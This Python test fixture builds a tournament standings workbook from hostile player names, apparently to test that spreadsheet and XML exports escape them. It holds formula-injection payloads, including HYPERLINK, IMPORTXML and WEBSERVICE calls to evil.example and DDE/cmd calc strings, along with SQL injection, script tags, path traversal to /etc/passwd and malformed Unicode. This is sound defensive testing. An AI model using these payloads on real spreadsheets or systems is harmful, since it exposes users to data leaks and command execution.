# ruff: noqa: RUF001
"""Names that somebody may give themselves, and a sheet of them."""

from collections.abc import Iterable
from datetime import UTC, date, datetime
from fractions import Fraction
from operator import itemgetter

from tournaments.tables.model import (
    Column,
    ColumnKind,
    Properties,
    RankCell,
    Row,
    Table,
    Workbook,
)

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Prize")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    "=-2+3+cmd|' /C calc'!D2",
    " =1+1",
    "   +1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2028=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\u3000＝1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "|calc",
    "%0A=1+1",
    "=",
    "-",
    "+",
    "@",
    "--",
)
"""What a spreadsheet might compute, or take for the mark of a text."""
NAMES = (
    *FORMULAS,
    'Robert"); DROP TABLE players;--',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt; &amp; &#0;",
    "]]><evil/>",
    "</table:table-cell><table:table-cell>",
    "</t></is></c>",
    'Ann "the Queen" Smith',
    "Ann, Bob; Cee\tDee",
    "two\nlines",
    "two\r\nlines",
    '"',
    '""',
    ",",
    ";",
    "_x0041_ _x000D_",
    "{=1+1}",
    "null",
    "NaN",
    "TRUE",
    "1E5",
    "007",
    "1/2",
    "3-4",
    "2025-01-02",
    "#REF!",
    "..\\..\\evil",
    "../../etc/passwd",
    "a" * 5000,
    "\x01\x02\x1b[31m",
    "\ud800 half a letter",
    "\uffff\ufffe",
    "\u202eevil\u202c",
    "Z\u0335\u0321\u0322a\u0334\u0328l\u0337g\u0338o",
    "ﷺ محمد",
    "שלום (כהן) 12",
    "王小明 김민수 さくら",
    "प्रिया क्षत्रिय",
    "สมชาย ใจดี",
    "👩‍👩‍👧‍👦 family 🧙",
    "Nguyễn Thị Ánh-Łukaszewicz",
    "\u0301starts with a mark",
    "  blanks   around  ",
    "{{7*7}} ${7*7} %s %n",
    "-0",
    "",
)
COLUMNS: tuple[Column[Row], ...] = (
    Column(key="rank", title="Rank", kind=ColumnKind.RANK, value=itemgetter(0)),
    Column(key="name", title="Name", value=itemgetter(1)),
    Column(key="points", title="Points", kind=ColumnKind.DECIMAL, value=itemgetter(2)),
    Column(
        key="balance", title="Balance", kind=ColumnKind.MONEY, currency="EUR", value=itemgetter(3)
    ),
    Column(key="hands", title="Hands", kind=ColumnKind.INTEGER, value=itemgetter(4)),
    Column(key="joined", title="Joined", kind=ColumnKind.DATE, value=itemgetter(5)),
    Column(key="seen", title="Seen", kind=ColumnKind.DATETIME, value=itemgetter(6)),
    Column(key="paid", title="Paid", kind=ColumnKind.BOOLEAN, value=itemgetter(7)),
)
AT = datetime(2025, 11, 21, 19, 30, tzinfo=UTC)


def rows(names: Iterable[str] = NAMES) -> list[Row]:
    """One row for each name, with a cell of every kind."""
    return [
        (
            RankCell(place // 2 + 1, place % 3 == 0),
            name,
            Fraction(place - 5, 3),
            -125 * place,
            place,
            date(2025, 1, 1 + place % 28),
            AT,
            place % 2 == 0,
        )
        for place, name in enumerate(names)
    ]


def workbook(names: Iterable[str] = NAMES) -> Workbook:
    """Make a workbook of one sheet of them."""
    table = Table("Standings", COLUMNS, rows(names))
    return Workbook((table,), Properties(title="League & <friends>", made_at=AT))
